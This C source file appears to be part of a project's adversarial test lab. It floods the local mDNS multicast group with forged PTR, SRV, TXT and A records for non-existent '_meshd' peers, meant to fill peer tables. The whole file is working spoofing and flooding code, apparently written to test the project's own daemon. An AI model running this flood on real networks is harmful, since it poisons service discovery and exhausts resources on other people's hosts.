/* A flood of announcements of peers that are not there, as any program on the link can send them.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <unistd.h>

#include "tests/lab/attacker.h"

#define MDNS_PORT    5353
#define MDNS_GROUP   "224.0.0.251"
#define PACKET_BYTES 1400u
#define TTL_S        120u
#define SERVICE      "\006_meshd\004_tcp\005local"
#define CLASS_IN     1u
#define CLASS_FLUSH  0x8001u
#define TYPE_A       1u
#define TYPE_PTR     12u
#define TYPE_TXT     16u
#define TYPE_SRV     33u
#define RECORDS_EACH 4u

static void put_u16(struct buf *to, unsigned v)
{
    buf_append_u8(to, (uint8_t)(v >> 8));
    buf_append_u8(to, (uint8_t)v);
}

static void put_label(struct buf *to, const char *text)
{
    buf_append_u8(to, (uint8_t)strlen(text));
    buf_append_str(to, text);
}

/* The type, with the NUL that ends a name. */
static void put_service(struct buf *to)
{
    buf_append(to, SERVICE, sizeof(SERVICE));
}

static void put_host(struct buf *to, const char *host)
{
    put_label(to, host);
    put_label(to, "local");
    buf_append_u8(to, 0);
}

static void put_instance(struct buf *to, const char *instance)
{
    put_label(to, instance);
    put_service(to);
}

static void put_head(struct buf *to, unsigned type, unsigned class)
{
    put_u16(to, type);
    put_u16(to, class);
    put_u16(to, 0);
    put_u16(to, TTL_S);
}

static void put_data(struct buf *to, const struct buf *data)
{
    put_u16(to, (unsigned)data->n);
    buf_append_slice(to, buf_slice(data));
}

/* PTR, SRV, TXT and A of one peer that was made up. */
static void put_peer(struct raid *raid, struct buf *to)
{
    char instance[64];
    char host[32];
    char id[3 + 64 + 1] = "id=";
    uint64_t number = raid_random(raid);
    for (unsigned i = 0; i < 64; i++) {
        id[3 + i] = "0123456789abcdef"[raid_random(raid) % 16];
    }
    snprintf(instance, sizeof(instance), "legion %08x-%08x", (unsigned)(number >> 32),
             (unsigned)number);
    snprintf(host, sizeof(host), "legion-%08x", (unsigned)number);
    struct buf data;
    buf_init(&data, PACKET_BYTES);
    put_service(to);
    put_head(to, TYPE_PTR, CLASS_IN);
    put_instance(&data, instance);
    put_data(to, &data);

    put_instance(to, instance);
    put_head(to, TYPE_SRV, CLASS_FLUSH);
    buf_clear(&data);
    put_u16(&data, 0);
    put_u16(&data, 0);
    put_u16(&data, 7437);
    put_host(&data, host);
    put_data(to, &data);

    put_instance(to, instance);
    put_head(to, TYPE_TXT, CLASS_FLUSH);
    buf_clear(&data);
    put_label(&data, "v=2");
    put_label(&data, id);
    put_label(&data, "cores=4096");
    put_label(&data, "arch=x86_64");
    put_label(&data, "os=linux");
    put_data(to, &data);

    put_host(to, host);
    put_head(to, TYPE_A, CLASS_FLUSH);
    buf_clear(&data);
    buf_append_u8(&data, 10);
    buf_append_u8(&data, 99);
    buf_append_u8(&data, 0);
    buf_append_u8(&data, (uint8_t)(number % 250 + 1));
    put_data(to, &data);
    buf_done(&data);
}

static int open_socket(void)
{
    static const int on = 1;
    static const unsigned char ttl = 255;
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    const struct ip_mreqn out = {.imr_ifindex = (int)if_nametoindex("eth0")};
    struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons(MDNS_PORT)};
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)) < 0 ||
        setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof(ttl)) < 0 ||
        setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &out, sizeof(out)) < 0 ||
        bind(fd, (const struct sockaddr *)&own, sizeof(own)) < 0) {
        return -1;
    }
    return fd;
}

void attack_mdns(struct raid *raid)
{
    int fd = open_socket();
    if (fd < 0) {
        return; /* nothing was sent: whoever counts sees it */
    }
    struct sockaddr_in group = {.sin_family = AF_INET, .sin_port = htons(MDNS_PORT)};
    group.sin_addr.s_addr = inet_addr(MDNS_GROUP);
    struct buf packet;
    buf_init(&packet, (size_t)2 * PACKET_BYTES);
    while (!raid_is_over(raid)) {
        buf_clear(&packet);
        unsigned n_peers = 3;
        put_u16(&packet, 0);
        put_u16(&packet, 0x8400);
        put_u16(&packet, 0);
        put_u16(&packet, n_peers * RECORDS_EACH);
        put_u16(&packet, 0);
        put_u16(&packet, 0);
        for (unsigned i = 0; i < n_peers; i++) {
            put_peer(raid, &packet);
        }
        if (sendto(fd, packet.p, packet.n, 0, (const struct sockaddr *)&group, sizeof(group)) > 0) {
            raid->n_sent += (uint64_t)n_peers * RECORDS_EACH;
        } else {
            raid_pause(1);
        }
        if (raid->n_sent % 600 == 0) {
            raid_pause(1); /* some 100,000 records a second are enough to fill any table */
        }
    }
    buf_done(&packet);
    IGNORE(close(fd)); /* nothing was kept in it */
}
